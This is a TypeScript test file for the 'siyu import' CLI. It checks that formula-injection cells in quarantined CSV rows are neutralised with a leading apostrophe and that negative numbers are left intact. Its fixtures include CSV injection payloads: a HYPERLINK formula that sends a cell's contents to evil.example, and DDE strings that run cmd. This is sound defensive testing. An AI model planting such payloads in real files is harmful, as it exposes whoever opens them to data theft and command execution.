import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';

const bin = join(import.meta.dirname, '..', 'bin', 'siyu.mjs');

test('given rejected rows carrying formulas, when `siyu import` writes the quarantine, then no cell of it is a formula a spreadsheet would run, and a negative amount stays a number', () => {
  const dir = mkdtempSync(join(tmpdir(), 'siyu-quarantine-'));
  try {
    const evil = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0'];
    const q = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const rows = [
      'order_id,member_no,ordered_at,gross_amount,channel,store_code,campaign_id,coupon_code',
      `O1,M1,not a date,-12.5,${evil.map(q).join(',')}`,
      `O2,M2,2024-03-05,oops,"\t=1+1",ok,ok,ok`,
      `=1+1,M3,2024-03-05,"=2+2",x,x,x,x`,
    ];
    writeFileSync(join(dir, 'orders.csv'), rows.join('\n') + '\n');
    const r = spawnSync(process.execPath, [bin, 'import', 'orders', join(dir, 'orders.csv'), '--json'], { env: { ...process.env, SIYU_DATA_DIR: join(dir, 'store') }, encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    const s = JSON.parse(r.stdout);
    assert.equal(s.rejected, 3);
    const cells = (parse(readFileSync(s.files[0].quarantine, 'utf8'), { bom: true }) as string[][]);
    const [header, ...body] = cells;
    assert.ok(header.includes('channel'));
    for (const row of body) {
      for (const cell of row) {
        const live = /^\s*[=+\-@]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
        assert.ok(!live, `a live formula in the quarantine: ${JSON.stringify(cell)}`);
      }
    }
    const at = (line: string, col: string) => body.find((x) => x[1] === line)![header.indexOf(col)];
    assert.equal(at('2', 'channel'), `'${evil[0]}`);
    assert.equal(at('2', 'store_code'), `'${evil[1]}`);
    assert.equal(at('2', 'campaign_id'), `'${evil[2]}`);
    assert.equal(at('2', 'coupon_code'), `'${evil[3]}`);
    assert.equal(at('2', 'gross_amount'), '-12.5', 'a plain negative number stays a number');
    assert.equal(at('4', 'order_id'), "'=1+1");
    assert.equal(at('4', 'gross_amount'), "'=2+2");
    assert.match(at('3', 'channel'), /^'/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
